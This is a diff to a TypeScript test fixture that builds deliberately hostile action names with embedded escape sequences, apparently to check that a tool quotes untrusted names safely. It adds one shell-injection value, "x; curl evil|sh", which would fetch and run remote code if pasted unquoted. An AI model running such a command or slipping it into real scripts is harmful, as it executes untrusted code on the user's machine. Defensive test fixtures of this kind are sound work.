@@ -47,11 +47,15 @@ export function claimingSchema(
 /** A name with {@linkcode ESCAPES} inside. */
 export const HOSTILE_NAME = `evil${ESCAPES}name`;
 
+/** A name a shell would run as commands, were it pasted unquoted. */
+export const SHELL_NAME = "x; curl evil|sh 'quoted'";
+
 /**
  * Actions whose names, schemas (property names, type words, descriptions,
  * enum values) and errors (message, name, fields, issues) carry
  * {@linkcode ESCAPES}: `evil…name` fails with an ACTION_FAILED,
- * `refuses` with INVALID_INPUT, `says` returns them.
+ * `refuses` with INVALID_INPUT, `says` returns them; and
+ * {@linkcode SHELL_NAME}, which returns null.
  */
 export function hostileActions(): Action<never, unknown>[] {
   const schema = {
@@ -74,6 +78,7 @@ export function hostileActions(): Action<never, unknown>[] {
       input: claimingSchema({ type: "string" }, `issue${ESCAPES}`),
     }, () => null),
     action("says", () => ({ [`key${ESCAPES}`]: `value${ESCAPES}` })),
+    action(SHELL_NAME, () => null),
   ] as unknown as Action<never, unknown>[];
 }
 
